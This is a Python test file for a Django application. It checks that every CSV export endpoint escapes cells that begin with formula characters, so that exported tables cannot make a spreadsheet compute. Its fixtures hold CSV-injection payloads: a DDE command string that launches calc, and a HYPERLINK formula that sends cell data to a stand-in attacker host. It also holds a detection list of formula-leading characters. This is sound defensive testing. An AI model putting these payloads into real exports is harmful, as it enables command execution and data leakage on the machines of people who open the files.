"""Every table that can be taken away as CSV, from runs and all else whose texts are formulas."""

import csv
import io
import json

import pytest
from asgiref.sync import async_to_sync
from django.test import Client

from runs.bulk.work import step
from runs.models import BulkOperation, User
from tests.security import places
from tests.security.seeding import seed

pytestmark = pytest.mark.django_db(transaction=True)

BEGINNINGS = ("=", "+", "-", "@", " =", '"=', "\t=", "\r=", "\n=", "＝", "＠", "\u00a0-", '  "+')
# In which a table may be asked for.
ASKED = ("?as=csv", "?download=csv")


class Formulas:
    """Another formula for each field."""

    def __init__(self) -> None:
        self._at = 0

    def short(self, most: int = 100) -> str:
        self._at += 5
        return f"{BEGINNINGS[self._at % len(BEGINNINGS)]}cmd|' /C calc'!A{self._at}"[:most]

    def long(self) -> str:
        return '=HYPERLINK("https://evil.invalid/?"&A1,"x")\n=1+1\n'


@pytest.fixture
def made():
    return seed(Formulas())


def whole(answer) -> str:
    if not answer.streaming:
        return answer.content.decode()

    async def joined():
        return b"".join([piece async for piece in answer.streaming_content])

    return (async_to_sync(joined)() if answer.is_async else b"".join(answer)).decode()


def tables(client: Client, made: dict) -> dict[str, str]:
    """Address → text, of all that is CSV."""
    found = {}
    for address in places.addresses(made):
        for words in ASKED:
            answer = client.get(address + words, headers={"Accept": "text/csv, */*"})
            if answer.headers.get("Content-Type", "").startswith("text/csv"):
                pattern = address
                for name in ("failed", "bulk", "execution", "failure_group", "trigger"):
                    pattern = pattern.replace(str(made[name]), f"<{name}>")
                found[pattern] = whole(answer)
    return found


def check(text: str, name: str) -> int:
    """How many cells had to be made safe."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, name
    # Each row is as wide as the head: no cell has become two.
    assert {len(row) for row in rows} == {len(rows[0])}, name
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        first = cell.lstrip(' "\u00a0\u3000\ufeff\u200b')[:1]
        is_number = cell.lstrip("-").replace(".", "", 1).isdecimal()
        assert first not in set("=+@＝＋－＠\t\r\n"), (name, cell)
        assert first != "-" or is_number, (name, cell)
    return sum(cell.startswith("'") for cell in cells)


@pytest.mark.long
def test_no_table_of_any_address_makes_a_spreadsheet_compute(made):
    client = Client(raise_request_exception=False)
    client.force_login(User.objects.create_superuser("ada"))
    found = tables(client, made)
    # A new one is to be named here.
    assert set(found) == {
        "/admin/analysis/cost/", "/admin/analysis/duration/", "/admin/analysis/failures/",
        "/admin/analysis/runs/<failed>/", "/admin/bulk/<bulk>/",
        "/admin/retention/executions/<execution>/", "/api/analysis/cost/",
        "/api/analysis/duration/", "/api/analysis/failures/", "/api/bulk/<bulk>/download/",
        "/api/bulk/<bulk>/outcomes/file/", "/api/runs/export/",
    }  # fmt: skip
    mended = {name: check(text, name) for name, text in found.items()}
    del mended["/api/bulk/<bulk>/download/"]  # of no run: see below
    assert sum(map(bool, mended.values())) >= len(mended) - 4, mended


@pytest.mark.parametrize("with_logs", [False, True])
def test_no_export_of_many_runs_does(made, with_logs, settings, tmp_path):
    settings.STORAGES = {**settings.STORAGES, "default": {
        "BACKEND": "django.core.files.storage.FileSystemStorage",
        "OPTIONS": {"location": str(tmp_path)}}}  # fmt: skip
    client = Client()
    client.force_login(User.objects.create_superuser("ada"))
    asked = {"kind": "export", "filter": {}, "options": {"format": "csv", "with_logs": with_logs}}
    answer = client.post("/api/bulk/", json.dumps(asked), content_type="application/json")
    operation = answer.json()["id"]
    until_finished()
    text = whole(client.get(f"/api/bulk/{operation}/download/"))
    assert check(text, "export") > 10
    assert text.count("\r\n") > (50 if with_logs else 6)


def until_finished() -> None:
    for _ in range(50):
        for row in BulkOperation.objects.filter(state="running"):
            step(row.pk)
        if not BulkOperation.objects.filter(state="running").exists():
            return
    raise AssertionError("the operations do not end")
